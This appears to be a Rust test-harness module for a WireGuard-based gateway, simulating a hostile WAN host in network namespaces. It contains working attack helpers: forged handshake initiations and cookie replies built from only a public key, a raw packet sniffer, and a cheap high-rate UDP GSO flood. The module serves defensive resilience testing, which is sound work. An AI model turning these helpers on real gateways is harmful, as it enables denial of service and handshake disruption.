//! What a hostile host on the WAN can do with nothing but a gateway's public key (peering
//! information hands it out) and what crosses the wire: flood handshake initiations with a valid
//! MAC1, sniff a real initiation, and forge the cookie reply that answers it.

use std::io::IoSlice;
use std::mem::MaybeUninit;
use std::net::{SocketAddr, UdpSocket};
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{bail, Context};
use boringtun::noise::rate_limiter::RateLimiter;
use boringtun::noise::{Tunn, TunnResult};
use boringtun::x25519::{PublicKey, StaticSecret};
use liqonet_proto::Key;
use nix::sys::socket::{sendmsg, ControlMessage, MsgFlags, SockaddrStorage};
use socket2::{Domain, Protocol, Socket, Type};

use crate::netns::in_netns;

/// Datagrams per GSO send (the kernel's limit is 64).
const SEGMENTS: usize = 64;

/// A handshake initiation to the gateway whose public key is `to`, from a key nobody configured:
/// its MAC1 is valid, so only the Diffie-Hellman that follows can tell it is a stranger's.
pub fn stranger_initiation(to: &str) -> anyhow::Result<Vec<u8>> {
    let to: Key = to.parse().map_err(|e| anyhow::anyhow!("{e}"))?;
    let mut t = Tunn::new(
        StaticSecret::from([0x5a; 32]),
        PublicKey::from(to.0),
        None,
        None,
        0,
        None,
    );
    let mut buf = vec![0u8; 256];
    match t.format_handshake_initiation(&mut buf, false) {
        TunnResult::WriteToNetwork(d) => Ok(d.to_vec()),
        _ => bail!("boringtun made no initiation"),
    }
}

/// The cookie reply the gateway with public key `of` would send to answer `initiation`, made by
/// someone who only has that public key: what a forger sends.
pub fn forged_cookie_reply(of: &str, initiation: &[u8]) -> anyhow::Result<Vec<u8>> {
    let of: Key = of.parse().map_err(|e| anyhow::anyhow!("{e}"))?;
    // A limit of 0: always "under load", so it answers with a cookie.
    let limiter = RateLimiter::new(&PublicKey::from(of.0), 0);
    let mut buf = [0u8; 256];
    let any: std::net::IpAddr = "192.0.2.66".parse()?;
    match limiter.verify_packet(Some(any), initiation, &mut buf) {
        Err(TunnResult::WriteToNetwork(c)) => Ok(c.to_vec()),
        _ => bail!("no cookie reply for that initiation"),
    }
}

/// Sends `datagram` to `to` from namespace `ns`.
pub fn send_from(
    ns: &str,
    bind: SocketAddr,
    to: SocketAddr,
    datagram: &[u8],
) -> anyhow::Result<()> {
    let datagram = datagram.to_vec();
    in_netns(ns, move || {
        UdpSocket::bind(bind)?.send_to(&datagram, to)?;
        Ok(())
    })
}

/// A packet socket on a bridge of the WAN: sees what crosses it, as an on-path attacker does.
pub struct Sniffer {
    socket: Socket,
}

impl Sniffer {
    /// Listens on device `dev` (the WAN bridge) in namespace `ns`.
    pub fn open(ns: &str, dev: &str) -> anyhow::Result<Sniffer> {
        let dev = dev.to_string();
        let socket = in_netns(ns, move || {
            // Every protocol: on a bridge port the bridge takes frames before protocol-specific
            // packet sockets would see them; only "all" taps come first.
            const ETH_P_ALL: u16 = 0x0003;
            let s = Socket::new(
                Domain::PACKET,
                Type::RAW,
                Some(Protocol::from(i32::from(ETH_P_ALL.to_be()))),
            )?;
            // A packet socket is tied to a device by bind(2) with its index, not SO_BINDTODEVICE.
            let index = nix::net::if_::if_nametoindex(dev.as_str())?;
            // SAFETY: an all-zero sockaddr_ll is valid; the fields that matter are set below.
            let mut ll: nix::libc::sockaddr_ll = unsafe { std::mem::zeroed() };
            ll.sll_family = nix::libc::AF_PACKET as u16;
            ll.sll_protocol = ETH_P_ALL.to_be();
            ll.sll_ifindex = index as i32;
            // SAFETY: `ll` is a sockaddr_ll and the length given is its size.
            let rc = unsafe {
                nix::libc::bind(
                    s.as_raw_fd(),
                    std::ptr::addr_of!(ll).cast(),
                    std::mem::size_of::<nix::libc::sockaddr_ll>() as u32,
                )
            };
            if rc != 0 {
                return Err(std::io::Error::last_os_error().into());
            }
            s.set_read_timeout(Some(Duration::from_millis(100)))?;
            Ok(s)
        })?;
        Ok(Sniffer { socket })
    }

    /// The UDP payload of the next WireGuard handshake initiation sent from IPv4 address `src`.
    pub fn next_initiation_from(&self, src: &str, timeout: Duration) -> anyhow::Result<Vec<u8>> {
        let src: std::net::Ipv4Addr = src.parse()?;
        let deadline = Instant::now() + timeout;
        let mut buf = [MaybeUninit::<u8>::uninit(); 2048];
        while Instant::now() < deadline {
            let Ok(n) = self.socket.recv(&mut buf) else {
                continue;
            };
            // SAFETY: recv initialised the first n bytes.
            let frame: Vec<u8> = buf[..n]
                .iter()
                .map(|b| unsafe { b.assume_init() })
                .collect();
            // Ethernet with IPv4 from `src`, UDP, then a 148-byte message of type 1.
            if frame.get(12..14) != Some(&[0x08, 0x00][..]) {
                continue;
            }
            let Some(ip) = frame.get(14..) else { continue };
            let ihl = usize::from(ip.first().copied().unwrap_or(0) & 0x0f) * 4;
            if ip.get(9) != Some(&17) || ip.get(12..16) != Some(&src.octets()[..]) {
                continue;
            }
            if let Some(payload) = ip.get(ihl + 8..) {
                if payload.len() == 148 && payload[0] == 1 {
                    return Ok(payload.to_vec());
                }
            }
        }
        bail!("no handshake initiation from {src} within {timeout:?}")
    }
}

/// A flood in progress: one source sending the same datagram at a fixed rate.
pub struct Flood {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<u64>>,
}

impl Flood {
    /// Starts sending `datagram` to `to` from `bind` in namespace `ns`, `rate` a second, 64
    /// datagrams per system call (UDP GSO) so that the flood costs its sender little.
    pub fn start(
        ns: &str,
        bind: SocketAddr,
        to: SocketAddr,
        datagram: &[u8],
        rate: u32,
    ) -> anyhow::Result<Flood> {
        let socket = in_netns(ns, move || Ok(UdpSocket::bind(bind)?))?;
        let segment = datagram.len();
        let burst: Vec<u8> = datagram.repeat(SEGMENTS);
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let period = Duration::from_secs_f64(SEGMENTS as f64 / f64::from(rate.max(1)));
        let thread = std::thread::Builder::new()
            .name("flood".into())
            .spawn(move || {
                let addr = SockaddrStorage::from(to);
                let seg = segment as u16;
                let mut sent = 0u64;
                let mut next = Instant::now();
                while !flag.load(Ordering::Relaxed) {
                    let cmsg = [ControlMessage::UdpGsoSegments(&seg)];
                    if sendmsg(
                        socket.as_raw_fd(),
                        &[IoSlice::new(&burst)],
                        &cmsg,
                        MsgFlags::empty(),
                        Some(&addr),
                    )
                    .is_ok()
                    {
                        sent += SEGMENTS as u64;
                    }
                    next += period;
                    std::thread::sleep(next.saturating_duration_since(Instant::now()));
                }
                sent
            })
            .context("cannot start the flood")?;
        Ok(Flood {
            stop,
            thread: Some(thread),
        })
    }

    /// Stops the flood; how many datagrams it sent.
    pub fn stop(mut self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.take().map_or(0, |t| t.join().unwrap_or(0))
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}
